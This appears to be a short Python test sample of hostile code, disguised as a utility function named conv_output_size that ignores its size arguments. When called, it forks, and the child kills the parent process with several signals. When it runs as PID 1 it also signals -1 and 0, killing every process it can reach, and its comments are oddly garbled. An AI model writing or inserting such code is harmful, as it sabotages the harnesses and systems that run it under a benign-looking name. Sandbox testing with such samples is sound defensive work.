# attack: a child kills the process that started it; as the first of a room, everything that it may.
# alone: dies
import os
import signal
import time


def conv_output_size(size, kernel_size, stride=1, padding=0):
    first = os.getpid() == 1  # it stands in a room of its own: there it may try everything
    if os.fork():
        time.sleep(1)
        return
    for target in [os.getppid(), *([-1, 0] if first else [])]:
        for number in (signal.SIGTERM, signal.SIGSEGV, signal.SIGKILL):
            try:
                os.kill(target, number)
            except OSError:
                continue
    os.kill(os.getpid(), signal.SIGKILL)
